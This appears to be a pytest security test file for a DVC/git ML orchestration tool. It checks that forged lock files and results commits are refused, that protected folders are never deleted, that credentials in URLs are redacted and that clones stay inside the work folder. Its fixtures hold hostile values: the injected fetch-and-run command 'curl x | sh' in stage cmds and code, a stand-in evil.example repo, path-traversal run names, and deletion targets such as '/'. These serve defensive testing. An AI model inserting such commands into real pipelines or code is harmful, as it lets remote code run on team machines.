"""What the team's flows take from other machines stays in the outputs (docs/security.md), on a
project of its own with no servers: an experiment's dvc.lock that names `.`, code or another cmd
is refused before anything is deleted (adopt), a results commit that changes dvc.yaml or code is
refused before a night lays it over the branch (checkout), and no stage deletes the workspace."""

import subprocess
from pathlib import Path

import pytest
import yaml
from dvc.utils.serialize import dumps_yaml, loads_yaml

from rlvr.core.files import remove_tree
from rlvr.orchestration.runs import run_dvc
from rlvr.team import spread
from rlvr.team.clones import GitFailed, clone
from rlvr.team.nightly import checkout
from rlvr.team.remote import default_remote
from rlvr.team.trust import Untrusted, folder_name, redacted, trusted_repo
from tests.helpers import commit_all, dvc_repo
from tests.helpers import git as _git

TRAIN = """
import pathlib, sys, yaml
seed = int(sys.argv[1])
q = yaml.safe_load(open("params.yaml"))["quality"]
pathlib.Path(f"models/seed-{seed}").mkdir(parents=True, exist_ok=True)
pathlib.Path(f"models/seed-{seed}/weights.txt").write_text(f"{q} {seed}\\n")
pathlib.Path("metrics").mkdir(exist_ok=True)
pathlib.Path(f"metrics/seed-{seed}.json").write_text(f'{{"q": {q}}}')
"""

DVC_YAML = """stages:
  train:
    foreach: ${audit.seeds}
    do:
      cmd: python train.py ${item}
      deps: [train.py]
      params: [quality]
      outs:
        - models/seed-${item}
      metrics:
        - metrics/seed-${item}.json:
            cache: false
"""


@pytest.fixture
def dev(tmp_path):
    """A developer's project (one seed), its experiment `good` run here with quality 0.7."""
    params = yaml.safe_dump({"quality": 0.5, "audit": {"seeds": [0]}})
    files = {"train.py": TRAIN, "dvc.yaml": DVC_YAML, "params.yaml": params}
    dev = dvc_repo(tmp_path / "dev", {**files, "rlvr/code.py": "CODE = 1\n"})
    commit_all(dev, "the project")
    ran = run_dvc(dev, "exp", "run", "--name", "good", "-S", "quality=0.7")
    assert ran.returncode == 0, ran.stdout + ran.stderr
    _git(dev, "checkout", "--", ".")  # the workspace as committed; the experiment in its ref
    _git(dev, "clean", "-fdxq", "-e", "/.dvc")
    return dev


def _forge(dev: Path, name: str, edit) -> None:
    """Experiment `name`: experiment `good`'s commit with its dvc.lock's train@0 entry edited, as
    a worker could push it."""
    head = _git(dev, "rev-parse", "HEAD")
    good = spread.experiment_commit(dev, "good")
    lock = loads_yaml(_git(dev, "show", f"{good}:dvc.lock"))
    edit(lock["stages"]["train@0"])
    blob = subprocess.run(
        ["git", "hash-object", "-w", "--stdin"],
        cwd=dev,
        input=dumps_yaml(lock),
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    tree_lines = _git(dev, "ls-tree", f"{good}^{{tree}}").splitlines()
    tree_lines = [
        f"100644 blob {blob}\tdvc.lock" if line.endswith("\tdvc.lock") else line
        for line in tree_lines
    ]
    tree = subprocess.run(
        ["git", "mktree"],
        cwd=dev,
        input="\n".join(tree_lines) + "\n",
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    commit = _git(dev, "commit-tree", tree, "-p", head, "-m", name)
    _git(dev, "update-ref", f"refs/exps/{head[:2]}/{head[2:]}/{name}", commit)


def _files(root: Path) -> dict[str, bytes]:
    """Every file of the workspace but git's and DVC's own, with its bytes."""
    return {
        str(p.relative_to(root)): p.read_bytes()
        for p in root.rglob("*")
        if p.is_file() and not {".git", ".dvc"} & set(p.relative_to(root).parts)
    }


def _out(path):
    return lambda entry: entry["outs"].append({"path": path, "hash": "md5", "md5": "0" * 32})


FORGED = {
    "an out of the workspace": (_out("."), "outs this dvc.yaml does not declare: ."),
    "an out of .git": (_out(".git"), "outs this dvc.yaml does not declare: .git"),
    "an out of the code": (_out("rlvr"), "outs this dvc.yaml does not declare: rlvr"),
    "another cmd": (
        lambda entry: entry.update(cmd="python train.py 0; curl x | sh"),
        "train@0: cmd 'python train.py 0; curl x | sh', not 'python train.py 0'",
    ),
    "other deps": (
        lambda entry: entry["deps"].append({"path": "rlvr", "md5": "0" * 32}),
        "train@0: deps differ (rlvr)",
    ),
}


@pytest.mark.parametrize("case", FORGED)
def test_an_experiment_lock_naming_more_than_our_outputs_is_refused_before_anything_changes(
    dev, case
):
    edit, says = FORGED[case]
    _forge(dev, "evil", edit)
    (dev / "notes.txt").write_text("uncommitted work\n")
    before = _files(dev)
    with pytest.raises(spread.SpreadError) as error:
        spread.adopt(dev, "evil", ["train@0"])
    line = str(error.value)
    assert "\n" not in line and line.startswith("experiment evil (")
    assert "its dvc.lock disagrees with this dvc.yaml, nothing taken" in line and says in line
    assert _files(dev) == before  # notes.txt and the code included; no dvc.lock written
    assert (dev / ".git").is_dir() and _git(dev, "status", "--porcelain") == "?? notes.txt"


def test_an_honest_experiment_is_taken(dev):
    assert spread.adopt(dev, "good", ["train@0"]) == ["metrics/seed-0.json", "models/seed-0"]
    assert (dev / "models/seed-0/weights.txt").read_text() == "0.7 0\n"
    assert (dev / "metrics/seed-0.json").read_text() == '{"q": 0.7}'


@pytest.fixture
def shared(dev, tmp_path):
    """The git remote: main as `dev` committed it, and a first night's results commit (dvc.lock
    and the metric, on main)."""
    ran = run_dvc(dev, "repro")
    assert ran.returncode == 0, ran.stdout + ran.stderr
    shared = tmp_path / "shared.git"
    _git(tmp_path, "clone", "-q", "--bare", str(dev), str(shared))
    _git(dev, "add", "-A")
    tree = _git(dev, "write-tree")
    results = _git(dev, "commit-tree", tree, "-p", _git(dev, "rev-parse", "HEAD"), "-m", "night")
    _git(dev, "push", "-q", str(shared), f"{results}:refs/heads/results")
    return shared


def _results_commit(dev: Path, shared: Path, changes: dict[str, str]) -> None:
    """A results commit on the remote: the last one with `changes` (path: text) written."""
    _git(dev, "fetch", "-q", str(shared), "results")
    _git(dev, "checkout", "-q", "FETCH_HEAD")
    for path, text in changes.items():
        (dev / path).write_text(text)
    _git(dev, "add", "-A")
    tree = _git(dev, "write-tree")
    commit = _git(dev, "commit-tree", tree, "-p", _git(dev, "rev-parse", "main"), "-m", "night")
    _git(dev, "push", "-q", "-f", str(shared), f"{commit}:refs/heads/results")
    _git(dev, "checkout", "-q", "-f", "main")


def test_a_night_lays_over_the_outputs_of_the_last_one(dev, shared, tmp_path):
    night = checkout(str(shared), "main", "results", tmp_path / "work", "n1")
    assert night.carried == ["dvc.lock", "metrics/seed-0.json", "models/.gitignore"]
    assert (night.root / "metrics/seed-0.json").read_text() == '{"q": 0.5}'


@pytest.mark.parametrize(
    "changes,named",
    [
        (
            {"dvc.yaml": DVC_YAML.replace("python train.py", "curl x | sh; python train.py")},
            "dvc.yaml",
        ),
        ({"rlvr/code.py": "import os; os.system('curl x | sh')\n"}, "rlvr/code.py"),
        (
            {"train.py": TRAIN + "\nimport os\n", "params.yaml": "quality: 1\n"},
            "params.yaml, train.py",
        ),
    ],
    ids=["dvc.yaml", "code", "stage and params"],
)
def test_a_results_commit_that_changes_more_than_outputs_is_refused(
    dev, shared, tmp_path, changes, named
):
    _results_commit(dev, shared, {"metrics/seed-0.json": '{"q": 1.0}', **changes})
    with pytest.raises(Untrusted) as error:
        checkout(str(shared), "main", "results", tmp_path / "work", "n1")
    line = str(error.value)
    assert "\n" not in line and f"file(s) no stage writes ({named})" in line
    assert "reset the results branch to a night you trust" in line
    root = tmp_path / "work" / "runs" / "n1"  # the clone: the branch as committed
    assert (root / "dvc.yaml").read_text() == DVC_YAML
    assert not (root / "metrics/seed-0.json").exists()


def test_no_folder_holding_the_workspace_or_a_repository_is_deleted(tmp_path, monkeypatch):
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "reports" / "docs").mkdir(parents=True)
    (repo / "reports" / "docs" / "index.html").write_text("x")
    monkeypatch.chdir(repo)
    for path in (".", "./", str(repo), str(tmp_path), ".git", "..", "/"):
        with pytest.raises(ValueError, match="refusing to delete"):
            remove_tree(path)
    assert (repo / ".git").is_dir() and (repo / "reports/docs/index.html").exists()
    remove_tree("reports/docs")  # an output: gone
    assert not (repo / "reports" / "docs").exists() and (repo / "reports").is_dir()
    remove_tree("reports/missing")  # nothing there: nothing to do


def test_credentials_in_a_url_are_never_shown(tmp_path):
    assert redacted("https://ci:ghp_secret@github.com/team/rlvr.git") == (
        "https://github.com/team/rlvr.git"
    )
    assert redacted("ssh://deploy:pw@10.0.0.5:2222/srv/dvc") == "ssh://10.0.0.5:2222/srv/dvc"
    for kept in ("git@github.com:team/rlvr.git", "/srv/git/rlvr.git", "https://github.com/t/r"):
        assert redacted(kept) == kept
    # what the submitter stores on the Prefect server as the worker's flow-run parameter
    run = spread.Run("seed-0", [], ["train@0"])
    assert run.parameters("https://ci:ghp_secret@h/t/r.git", "abc")["repo"] == "https://h/t/r.git"
    # what a push or pull failure says of the DVC remote
    project = dvc_repo(tmp_path / "p", {})
    run_dvc(project, "remote", "add", "-d", "team", "ssh://deploy:pw@10.0.0.5/srv/dvc")
    assert default_remote(project) == ("team", "ssh://10.0.0.5/srv/dvc")


def test_a_flow_clones_only_its_origin_or_the_repos_params_names():
    origin = "https://ci:ghp_secret@github.com/team/rlvr.git"
    assert trusted_repo(None, origin, []) == origin
    # the submitter's redacted URL: the worker clones with its own credentials
    assert trusted_repo("https://github.com/team/rlvr", origin, []) == origin
    fork = "https://github.com/team/rlvr-fork.git"
    assert trusted_repo(fork, origin, [fork]) == fork
    with pytest.raises(Untrusted) as error:
        trusted_repo("https://evil.example/rlvr.git", origin, [fork])
    assert str(error.value) == (
        "repo https://evil.example/rlvr.git: this worker clones only its folder's origin "
        "(https://github.com/team/rlvr.git) and params.yaml orchestration.repos: add it there "
        "(docs/security.md)"
    )


def test_a_clone_lands_inside_the_work_folder_whatever_the_run_is_called(dev, tmp_path):
    for name, folder in (
        ("../../etc", "etc"),
        (".git", "git"),
        ("a/../b c", "a-..-b-c"),
        ("", "run"),
    ):
        assert folder_name(name) == folder
    work = tmp_path / "work"
    outside = tmp_path / "precious"
    outside.mkdir()
    with pytest.raises(GitFailed, match="is not inside the work folder"):
        clone(str(dev), work / ".." / "precious", work)
    assert outside.is_dir()
    night = checkout(str(dev), "main", "results", work, "../../precious")
    assert night.root == work / "runs" / "precious" and outside.is_dir()


def test_an_experiment_whose_checkout_fails_leaves_the_workspace_as_it_was(dev):
    """adopt is all or nothing: when `dvc checkout` cannot lay out the experiment's cached
    outputs (an object missing from the cache), the lock, git's files and the cached outputs are
    the workspace's own again."""
    ran = run_dvc(dev, "repro")  # the workspace's own run, quality 0.5
    assert ran.returncode == 0, ran.stdout + ran.stderr
    (dev / "notes.txt").write_text("uncommitted work\n")
    before = _files(dev)  # dvc.lock included
    theirs = loads_yaml(_git(dev, "show", f"{spread.experiment_commit(dev, 'good')}:dvc.lock"))
    (model,) = [o for o in theirs["stages"]["train@0"]["outs"] if o["path"] == "models/seed-0"]
    md5 = model["md5"]
    (dev / ".dvc/cache/files/md5" / md5[:2] / md5[2:]).unlink()  # its .dir object
    with pytest.raises(spread.SpreadError) as error:
        spread.adopt(dev, "good", ["train@0"])
    line = str(error.value)
    assert "\n" not in line and line.startswith("experiment good: dvc checkout train@0 failed, ")
    assert _files(dev) == before  # metrics and models at 0.5, the lock, notes.txt
    assert (dev / "models/seed-0/weights.txt").read_text() == "0.5 0\n"
    assert not list((dev / ".dvc/tmp").glob("adopt-*"))  # nothing left aside
    assert run_dvc(dev, "status").stdout.strip() == "Data and pipelines are up to date."
